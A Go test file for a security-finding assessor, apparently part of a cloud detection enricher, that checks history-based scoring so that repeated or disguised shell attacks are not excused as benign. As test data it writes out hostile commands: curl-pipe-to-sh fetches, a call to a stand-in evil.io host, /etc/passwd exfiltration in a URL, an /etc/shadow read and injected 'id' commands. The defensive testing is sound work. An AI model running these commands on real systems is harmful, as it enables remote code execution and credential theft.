package assess

import (
	"math/rand/v2"
	"slices"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/scc-enricher/scc-enricher/pkg/finding"
)

// thumbnails is what a picture service does all day: a shell under node that
// makes a small picture of a large one.
func thumbnails(n string) *finding.Finding {
	return childShell("node", "sh", "-c", "convert /tmp/in-"+n+".png -resize "+n+"x100 /tmp/out-"+n+".jpg && curl -fsS https://thumbs.partner.io/done/"+n)
}

// ago is a finding of some days before, with our verdict, closed or not.
func ago(f *finding.Finding, days int, v Verdict, closed bool) Earlier {
	f.EventTime = f.EventTime.Add(-time.Duration(days) * 24 * time.Hour)
	f.CanonicalName += "-" + f.EventTime.Format(time.DateOnly) + string(v)
	f.Name = f.CanonicalName
	if closed {
		f.State = finding.Inactive
	}
	return Earlier{Finding: f, Verdict: v}
}

func TestPrecedent(t *testing.T) {
	t.Parallel()
	with := func(f *finding.Finding, change func(*finding.Finding)) *finding.Finding {
		change(f)
		return f
	}
	day := func(n int) time.Time { return event().Add(-time.Duration(n) * 24 * time.Hour) }
	tests := []struct {
		name    string
		earlier []Earlier
		want    Precedent // without names
	}{
		{"nothing", nil, Precedent{}},
		{"judged harmless", []Earlier{ago(thumbnails("7"), 3, LikelyBenign, false), ago(thumbnails("12"), 9, Unknown, false)}, Precedent{Count: 2, Days: 2, First: day(9), Last: day(3)}},
		{"suspicious and open", []Earlier{ago(thumbnails("7"), 3, Suspicious, false)}, Precedent{}},
		{"never judged and open", []Earlier{ago(thumbnails("7"), 3, "", false)}, Precedent{}},
		{"suspicious and closed", []Earlier{ago(thumbnails("7"), 3, Suspicious, true)}, Precedent{Count: 1, Days: 1, Closed: 1, First: day(3), Last: day(3)}},
		{"never judged and muted", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { f.Mute = "MUTED" }), 3, "", false)}, Precedent{Count: 1, Days: 1, Closed: 1, First: day(3), Last: day(3)}},
		{"several closed on one day count as one day", []Earlier{ago(thumbnails("7"), 3, Suspicious, true), ago(thumbnails("8"), 3, LikelyBenign, true), ago(thumbnails("9"), 3, "", true)},
			Precedent{Count: 3, Days: 1, Closed: 1, First: day(3), Last: day(3)}},
		{"an attack that was cleaned up and closed", []Earlier{ago(thumbnails("7"), 3, Malicious, true), ago(thumbnails("8"), 5, LikelyBenign, false)},
			Precedent{Count: 1, Days: 1, First: day(5), Last: day(5), Attacks: 1, LastAttack: day(3)}},
		{"another detector", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { f.Category = "Reverse Shell" }), 3, LikelyBenign, false)}, Precedent{}},
		{"another image", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { f.Containers[0].URI = "docker.pkg.dev/other/app:v2" }), 3, LikelyBenign, false)}, Precedent{}},
		{"another tag", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { f.Containers[0].URI = "europe-west1-docker.pkg.dev/shop-prod/app/pay:v1" }), 3, LikelyBenign, false)},
			Precedent{Count: 1, Days: 1, First: day(3), Last: day(3)}},
		{"no image", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { f.Containers = nil }), 3, LikelyBenign, false)}, Precedent{}},
		{"another parent", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { f.Processes[0].Binary.Path = "/usr/bin/java" }), 3, LikelyBenign, false)}, Precedent{}},
		{"another shell", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { f.Processes[1].Binary.Path = "/app/sh" }), 3, LikelyBenign, false)}, Precedent{}},
		{"another user", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { *f.Processes[1].UserID = 0 }), 3, LikelyBenign, false)}, Precedent{}},
		{"another file of the same image", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) {
			f.Containers[0].ImageID, f.Processes[1].Binary.SHA256 = "sha256:"+hash("1"), hash("c")
		}), 3, LikelyBenign, false)}, Precedent{}},
		{"a script", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { f.Processes[1].Script = &finding.File{Contents: "id"} }), 3, LikelyBenign, false)}, Precedent{}},
		{"cut arguments", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { f.Processes[1].ArgsTruncated = true }), 3, LikelyBenign, false)}, Precedent{}},
		{"another host", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) {
			f.Processes[1].Args[2] = "convert /tmp/in-7.png -resize 7x100 /tmp/out-7.jpg && curl -fsS https://thumbs.other.io/done/7"
		}), 3, LikelyBenign, false)}, Precedent{Count: 1, Days: 1, First: day(3), Last: day(3), NewHost: "thumbs.partner.io"}},
		{"one more command", []Earlier{ago(with(thumbnails("7"), func(f *finding.Finding) { f.Processes[1].Args[2] += "; id" }), 3, LikelyBenign, false)}, Precedent{}},
		{"itself", []Earlier{{Finding: thumbnails("7"), Verdict: LikelyBenign}}, Precedent{}},
		{"nil", []Earlier{{Verdict: LikelyBenign}}, Precedent{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f := with(thumbnails("42"), func(f *finding.Finding) { f.Containers[0].ImageID = "sha256:" + hash("1") })
			got := precedent(f, tt.earlier)
			if len(got.Names) != got.Count {
				t.Errorf("%d names of %d", len(got.Names), got.Count)
			}
			got.Names = nil
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("precedent (-want +got):\n%s", diff)
			}
		})
	}
}

// TestRepeatedAttacks: who repeats himself does not become harmless by it, and
// who hides behind something harmless finds no shape that fits.
func TestRepeatedAttacks(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	for _, argv := range [][]string{
		{"sh", "-c", "convert /tmp/in-1.png -resize 1x100 /tmp/out-1.jpg && curl -fsS https://evil.io/done/1"},            // another host
		{"sh", "-c", "convert /tmp/in-1.png -resize 1x100 /tmp/out-1.jpg && curl -fsS https://45.9.148.1/done/1"},         // an address
		{"sh", "-c", "convert /tmp/in-1.png -resize 1x100 /tmp/out-1.sh && curl -fsS https://thumbs.partner.io/done/1"},   // a script
		{"sh", "-c", "/tmp/c /tmp/in-1.png -resize 1x100 /tmp/out-1.jpg && curl -fsS https://thumbs.partner.io/done/1"},   // another program
		{"sh", "-c", "convert1 /tmp/in-1.png -resize 1x100 /tmp/out-1.jpg && curl -fsS https://thumbs.partner.io/done/1"}, // a program with a number
		{"sh", "-c", "convert /tmp/in-1.png -resize 1x100 /tmp/out-1.jpg; curl -fsS https://thumbs.partner.io/done/1"},    // another operator
		{"sh", "-c", "convert /tmp/in-1.png -resize 1x100 /tmp/out-1.jpg && curl -fsS https://thumbs.partner.io/done/1", "x"},
		{"sh", "-c", "convert /etc/shadow -resize 1x100 /tmp/out-1.jpg && curl -fsS https://thumbs.partner.io/done/1"},
		{"sh", "-c", "convert /tmp/in-1.png -resize 1x100 /tmp/out-1.jpg && curl -fsS https://thumbs.partner.io/done/1;id"},
		{"sh", "-c", "convert /tmp/in-`id`.png -resize 1x100 /tmp/out-1.jpg && curl -fsS https://thumbs.partner.io/done/1"},
		{"sh", "-c", "convert '/tmp/in-1.png' -resize 1x100 /tmp/out-1.jpg && curl -fsS https://thumbs.partner.io/done/1?d=$(cat /etc/passwd)"},
		{"bash", "-c", "convert /tmp/in-1.png -resize 1x100 /tmp/out-1.jpg && curl -fsS https://thumbs.partner.io/done/1"},
		{"sh"},
	} {
		in := input(childShell("node", argv...), complete())
		for n := 2; n < 20; n++ {
			in.Earlier = append(in.Earlier, ago(thumbnails("7"), n, LikelyBenign, true))
		}
		if a := p.Assess(in); a.Verdict == LikelyBenign || slices.Contains(ids(a), "seen_before") {
			t.Errorf("%q is excused by thumbnails: %s", argv, explain(a))
		}
	}
	// The same attack every day, never closed: each judged by itself.
	for _, text := range []string{"id; uname -a", "cat /app/config.json", "curl http://45.9.148.1/x | sh", "ls /app/uploads"} {
		in := input(childShell("node", "sh", "-c", text), complete())
		first := p.Assess(in)
		for n := 2; n < 20; n++ {
			in.Earlier = append(in.Earlier, ago(childShell("node", "sh", "-c", text), n, first.Verdict, false))
		}
		if a := p.Assess(in); a.Score < first.Score || a.Verdict == LikelyBenign {
			t.Errorf("%q is excused by itself: %s, first %s", text, explain(a), explain(first))
		}
	}
}

// TestSeenBefore: what people closed on several days is likely benign, names
// its evidence, and a grave finding beside it undoes that.
func TestSeenBefore(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	in := input(thumbnails("42"), complete())
	if a := p.Assess(in); a.Verdict != Suspicious {
		t.Fatalf("without history: %s", explain(a))
	}
	in.Earlier = []Earlier{ago(thumbnails("7"), 3, Suspicious, true), ago(thumbnails("9"), 20, Suspicious, true)}
	a := p.Assess(in)
	i := slices.Index(ids(a), "seen_before")
	if a.Verdict != LikelyBenign || a.NextAction != VerifyWithOwner || i < 0 {
		t.Fatalf("closed twice: %s", explain(a))
	}
	if want := "2 times on 2 days, first 2026-08-16, last 2026-09-02; closed or muted by a person on 2 of them"; a.Reasons[i].Evidence != want {
		t.Errorf("evidence %q, want %q", a.Reasons[i].Evidence, want)
	}
	beside := input(in.Finding, in.Evidence, other("Reverse Shell"))
	beside.Earlier = in.Earlier
	if a := p.Assess(beside); a.Verdict != Malicious {
		t.Errorf("next to a reverse shell: %s", explain(a))
	}
}

// TestHistoryProperties: the order of earlier findings does not matter, and a
// bad one more never lowers the score.
func TestHistoryProperties(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	for seed := range uint64(40) {
		r := rand.New(rand.NewPCG(seed, 2))
		in := randomInput(r)
		for n := range r.IntN(6) {
			f := *in.Finding
			in.Earlier = append(in.Earlier, ago(&f, 2+n+r.IntN(3), []Verdict{Malicious, Suspicious, LikelyBenign, Unknown, ""}[r.IntN(5)], r.IntN(2) == 0))
		}
		a := p.Assess(in)
		checkBounds(t, p, a)
		checkSilence(t, p, in, a)
		checkCompany(t, p, in, a)
		shuffled := in
		shuffled.Earlier = slices.Clone(in.Earlier)
		r.Shuffle(len(shuffled.Earlier), func(i, j int) {
			shuffled.Earlier[i], shuffled.Earlier[j] = shuffled.Earlier[j], shuffled.Earlier[i]
		})
		compare(t, "the order of earlier findings matters", a, p.Assess(shuffled))
		worse := in
		f := *in.Finding
		worse.Earlier = append(slices.Clone(in.Earlier), ago(&f, 29, Malicious, true))
		if got := p.Assess(worse); got.Score < a.Score {
			t.Errorf("with an attack before the score falls from %d to %d", a.Score, got.Score)
		}
	}
}

func FuzzShape(f *testing.F) {
	f.Add("sh", "-c", "curl http://a.b/1 | sh")
	f.Add("python3.11", "/app/x.py", "--n=3")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		one, ok := shapeOf(childShell("node", a, b, c))
		two, again := shapeOf(childShell("node", a, b, c))
		if ok != again || ok && (!one.same(&two) || !two.same(&one)) {
			t.Errorf("%q is not the same as itself", []string{a, b, c})
		}
	})
}

// TestShape holds what may differ between two runs of the same, and what not.
func TestShape(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name string
		a, b []string
		want bool
	}{
		{"numbers", []string{"sh", "-c", "resize --width=100 7"}, []string{"sh", "-c", "resize --width=99 8"}, true},
		{"hashes", []string{"sh", "-c", "git show 0123456789abcdef0123456789abcdef01234567"}, []string{"sh", "-c", "git show aaaa456789abcdef0123456789abcdef01234567"}, true},
		{"a payload in hexadecimal", []string{"sh", "-c", "run " + hash("a") + "aa"}, []string{"sh", "-c", "run " + hash("b") + "bb"}, false},
		{"data files", []string{"sh", "-c", "convert /tmp/a.png out.jpg"}, []string{"sh", "-c", "convert /tmp/b.png other.jpg"}, true},
		{"data files elsewhere", []string{"sh", "-c", "convert /tmp/a.png out.jpg"}, []string{"sh", "-c", "convert /etc/b.png out.jpg"}, false},
		{"scripts as arguments", []string{"sh", "-c", "crontab /app/a.sh"}, []string{"sh", "-c", "crontab /app/b.sh"}, false},
		{"files without extension", []string{"sh", "-c", "cat /app/a"}, []string{"sh", "-c", "cat /app/b"}, false},
		{"scripts that are run", []string{"sh", "-c", "python3 -u /app/job1.py"}, []string{"sh", "-c", "python3 -u /app/job2.py"}, false},
		{"programs by number", []string{"sh", "-c", "/app/tool1 x"}, []string{"sh", "-c", "/app/tool2 x"}, false},
		{"programs after an operator", []string{"sh", "-c", "true && /app/tool1"}, []string{"sh", "-c", "true && /app/tool2"}, false},
		{"programs in a substitution", []string{"sh", "-c", "echo $(tool1)"}, []string{"sh", "-c", "echo $(tool2)"}, false},
		{"programs of an argument vector", []string{"env", "/app/tool1"}, []string{"env", "/app/tool2"}, false},
		{"the first argument", []string{"/app/tool1", "x"}, []string{"/app/tool2", "x"}, false},
		{"class names look like hosts", []string{"java", "-cp", "app.jar", "com.good.Main"}, []string{"java", "-cp", "app.jar", "com.evil.Main"}, false},
		{"hosts are compared elsewhere", []string{"sh", "-c", "curl https://a.partner.io/x"}, []string{"sh", "-c", "curl https://b.partner.io/x"}, true},
		{"paths of a URL", []string{"sh", "-c", "curl https://a.partner.io/x"}, []string{"sh", "-c", "curl https://a.partner.io/y"}, false},
		{"an assignment before the command", []string{"sh", "-c", "A=1 tool1"}, []string{"sh", "-c", "A=1 tool2"}, false},
	} {
		a, okA := shapeOf(childShell("node", tt.a...))
		b, okB := shapeOf(childShell("node", tt.b...))
		a.key, b.key = a.key+a.binary, b.key+b.binary
		if got := okA && okB && a.same(&b); got != tt.want {
			t.Errorf("%s: same = %v, want %v: %q, %q", tt.name, got, tt.want, a.key, b.key)
		}
	}
}
